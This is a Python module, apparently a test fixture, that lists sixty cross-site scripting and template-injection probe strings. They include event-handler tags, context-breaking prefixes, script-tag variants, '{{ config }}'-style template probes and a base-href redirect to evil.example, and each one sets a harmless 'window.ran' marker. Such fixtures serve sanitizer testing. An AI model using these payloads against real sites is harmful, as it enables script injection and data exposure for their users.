"""Sixty texts that run a script where a page takes them for its own; each tag they make carries data-x."""

from __future__ import annotations

RUN = "window.ran=1"
TAGS = tuple(
    f"<{tag} data-x {event}={RUN}>"
    for tag, event in (
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("video src=x", "onerror"),
        ("audio src=x", "onerror"), ("details open", "ontoggle"), ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("marquee", "onstart"),
        ("iframe src=javascript:1", "onload"), ("object data=x", "onerror"), ("embed src=x", "onload"),
        ("style", "onload"), ("link rel=stylesheet href=x", "onerror"), ("meter", "onmouseover"),
        ("a href=# autofocus", "onfocus"), ("button autofocus", "onfocus"),
        ("div tabindex=1 autofocus", "onfocus"),
        ("table background=x", "onload"),
    )
)  # fmt: skip
BREAKS = tuple(
    f"{before}<img data-x src=x onerror={RUN}>{after}"
    for before, after in (
        ('">', ""), ("'>", ""), ("</title>", ""), ("</textarea>", ""), ("</script>", ""), ("</style>", ""),
        ("-->", "<!--"), ("]]>", ""), ('"/>', ""), ("</option></select>", ""), ("</h2>", ""), ("</a>", ""),
        ("</button>", ""), ("<!--><", ""), ("\\\">", ""), ("&quot;>", ""), ("</noscript>", ""),
        ("</template>", ""), ("</svg>", ""), ("%22%3E", ""),
    )
)  # fmt: skip
SCRIPTS = (
    f"<script data-x>{RUN}</script>",
    f"<SCRIPT data-x>{RUN}</SCRIPT>",
    f"<script data-x src=data:,{RUN}></script>",
    f"<scr<script data-x>ipt>{RUN}</script>",
    f"<script data-x>{RUN}//",
    f"<svg data-x><script>{RUN}</script></svg>",
    f"<math data-x><mtext><script>{RUN}</script>",
    f'" onmouseover="{RUN}" data-x="',
    f"' onfocus='{RUN}' autofocus data-x='",
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<%={RUN}%>",
    f"{{% raw %}}<img data-x src=x onerror={RUN}>{{% endraw %}}",
    "{{ config }}",
    "{{ w.say.__globals__ }}",
    f"&lt;img data-x src=x onerror={RUN}&gt;",
    f"\u202e<img data-x src=x onerror={RUN}>",
    f"<base data-x href=//evil.example><img src=x onerror={RUN}>",
)
XSS_STRINGS = TAGS + BREAKS + SCRIPTS
